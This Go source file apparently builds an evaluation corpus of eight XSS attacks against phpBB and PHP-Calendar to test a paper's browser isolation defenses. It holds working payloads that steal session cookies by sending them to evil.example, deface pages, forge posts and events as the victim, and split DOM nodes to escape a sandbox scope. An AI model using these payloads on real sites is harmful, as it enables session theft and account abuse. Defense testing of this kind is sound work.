@@ -1,0 +1,168 @@
+package attack
+
+import (
+	"fmt"
+	"strconv"
+)
+
+// The XSS corpus. §6.4: "We created 4 XSS attacks for each web
+// application. In phpBB, we created XSS attacks for posting new
+// messages on behalf of victim users and for modifying existing
+// messages. In PHP-Calendar, we created XSS attacks for creating new
+// events on behalf of victim users, and modifying existing events."
+// The corpus here covers those two goals plus the two classic
+// variants the paper's §5 defenses target: session-cookie theft and
+// node-splitting privilege escalation.
+
+// forumXSS builds the four phpBB XSS attacks. In each, the attacker
+// (a registered user) plants a hostile topic; the victim — logged in —
+// views it.
+func forumXSS() []Attack {
+	return []Attack{
+		{
+			Name: "phpbb-xss-cookie-theft",
+			Kind: KindXSS,
+			App:  "phpBB",
+			Description: "Hostile topic exfiltrates document.cookie to the attacker's " +
+				"collector via an image fetch. Success: the collector receives the " +
+				"phpbb2mysql_sid session cookie.",
+			Run: func(e *Env) (bool, error) {
+				payload := `<script>var i = new Image(); i.src = "http://evil.example/steal?c=" + encodeURIComponent(document.cookie);</script>`
+				id := e.Forum.SeedTopic(AttackerUser, "innocent looking topic", payload)
+				if _, err := e.Victim.Navigate(e.ForumOrigin.URL("/viewtopic?t=" + strconv.Itoa(id))); err != nil {
+					return false, err
+				}
+				return hasSessionValue(e.EvilReceived("/steal"), "phpbb2mysql_sid"), nil
+			},
+		},
+		{
+			Name: "phpbb-xss-deface",
+			Kind: KindXSS,
+			App:  "phpBB",
+			Description: "Hostile topic script modifies the forum's trusted announcement " +
+				"banner through the DOM API. Success: the banner text changed.",
+			Run: func(e *Env) (bool, error) {
+				// The announcement is on the index page; the hostile
+				// subject renders there inside its ring-3 scope.
+				payload := `<script>document.getElementById("announcement").innerText = "OWNED BY MALLORY";</script>`
+				e.Forum.SeedTopic(AttackerUser, payload, "body")
+				p, err := e.Victim.Navigate(e.ForumOrigin.URL("/"))
+				if err != nil {
+					return false, err
+				}
+				return innerTextByID(p, "announcement") != "Community Forum", nil
+			},
+		},
+		{
+			Name: "phpbb-xss-forged-post",
+			Kind: KindXSS,
+			App:  "phpBB",
+			Description: "Hostile topic script posts a new message on behalf of the victim " +
+				"via XMLHttpRequest (the paper's 'posting new messages on behalf of " +
+				"victim users'). Success: a topic authored by the victim appears.",
+			Run: func(e *Env) (bool, error) {
+				payload := `<script>var x = new XMLHttpRequest();` +
+					`x.open("POST", "/posting");` +
+					`x.send("subject=FORGED-BY-XSS&message=spam");</script>`
+				id := e.Forum.SeedTopic(AttackerUser, "click me", payload)
+				if _, err := e.Victim.Navigate(e.ForumOrigin.URL("/viewtopic?t=" + strconv.Itoa(id))); err != nil {
+					return false, err
+				}
+				return forumTopicWithSubject(e.Forum, "FORGED-BY-XSS", VictimUser), nil
+			},
+		},
+		{
+			Name: "phpbb-xss-node-split",
+			Kind: KindXSS,
+			App:  "phpBB",
+			Description: "Hostile reply attempts node-splitting: it closes the ring-3 " +
+				"scope and opens a forged ring-0 scope whose script modifies an " +
+				"existing message (§5). Success: the victim's post was modified.",
+			Run: func(e *Env) (bool, error) {
+				victimTopic := e.Forum.SeedTopic(VictimUser, "victim topic", "original text")
+				payload := `</div><div ring=0 r=3 w=3 x=3>` +
+					`<script>document.getElementById("post-` + strconv.Itoa(victimTopic) + `").innerText = "MODIFIED";</script>`
+				e.Forum.SeedReply(victimTopic, AttackerUser, payload)
+				p, err := e.Victim.Navigate(e.ForumOrigin.URL("/viewtopic?t=" + strconv.Itoa(victimTopic)))
+				if err != nil {
+					return false, err
+				}
+				return innerTextByID(p, "post-"+strconv.Itoa(victimTopic)) != "victim topic original text", nil
+			},
+		},
+	}
+}
+
+// calXSS builds the four PHP-Calendar XSS attacks.
+func calXSS() []Attack {
+	return []Attack{
+		{
+			Name: "phpcal-xss-cookie-theft",
+			Kind: KindXSS,
+			App:  "PHP-Calendar",
+			Description: "Hostile event exfiltrates document.cookie to the attacker's " +
+				"collector. Success: the collector receives the phpc_session cookie.",
+			Run: func(e *Env) (bool, error) {
+				payload := `<script>var i = new Image(); i.src = "http://evil.example/steal?c=" + encodeURIComponent(document.cookie);</script>`
+				e.Cal.SeedEvent(AttackerUser, 13, payload)
+				if _, err := e.Victim.Navigate(e.CalOrigin.URL("/")); err != nil {
+					return false, err
+				}
+				return hasSessionValue(e.EvilReceived("/steal"), "phpc_session"), nil
+			},
+		},
+		{
+			Name: "phpcal-xss-deface",
+			Kind: KindXSS,
+			App:  "PHP-Calendar",
+			Description: "Hostile event script rewrites the calendar's trusted title. " +
+				"Success: the title changed.",
+			Run: func(e *Env) (bool, error) {
+				payload := `<script>document.getElementById("caltitle").innerText = "OWNED";</script>`
+				e.Cal.SeedEvent(AttackerUser, 5, payload)
+				p, err := e.Victim.Navigate(e.CalOrigin.URL("/"))
+				if err != nil {
+					return false, err
+				}
+				return innerTextByID(p, "caltitle") != "Group Calendar", nil
+			},
+		},
+		{
+			Name: "phpcal-xss-forged-event",
+			Kind: KindXSS,
+			App:  "PHP-Calendar",
+			Description: "Hostile event script creates a new event on behalf of the victim " +
+				"via XMLHttpRequest (the paper's 'creating new events on behalf of " +
+				"victim users'). Success: an event authored by the victim appears.",
+			Run: func(e *Env) (bool, error) {
+				payload := `<script>var x = new XMLHttpRequest();` +
+					`x.open("POST", "/event");` +
+					`x.send("day=28&text=FORGED-EVENT");</script>`
+				e.Cal.SeedEvent(AttackerUser, 2, payload)
+				if _, err := e.Victim.Navigate(e.CalOrigin.URL("/")); err != nil {
+					return false, err
+				}
+				return calEventWithText(e.Cal, "FORGED-EVENT", VictimUser), nil
+			},
+		},
+		{
+			Name: "phpcal-xss-node-split",
+			Kind: KindXSS,
+			App:  "PHP-Calendar",
+			Description: "Hostile event attempts node-splitting to escape its ring-3 scope " +
+				"and modify an existing event (§5, the paper's 'modifying existing " +
+				"events'). Success: the victim's event text changed.",
+			Run: func(e *Env) (bool, error) {
+				victimEvent := e.Cal.SeedEvent(VictimUser, 1, "victim event")
+				payload := fmt.Sprintf(`</div><div ring=0 r=3 w=3 x=3>`+
+					`<script>document.getElementById("event-%d").innerText = "MODIFIED";</script>`, victimEvent)
+				e.Cal.SeedEvent(AttackerUser, 1, payload)
+				p, err := e.Victim.Navigate(e.CalOrigin.URL("/"))
+				if err != nil {
+					return false, err
+				}
+				return innerTextByID(p, "event-"+strconv.Itoa(victimEvent)) != "victim event", nil
+			},
+		},
+	}
+}
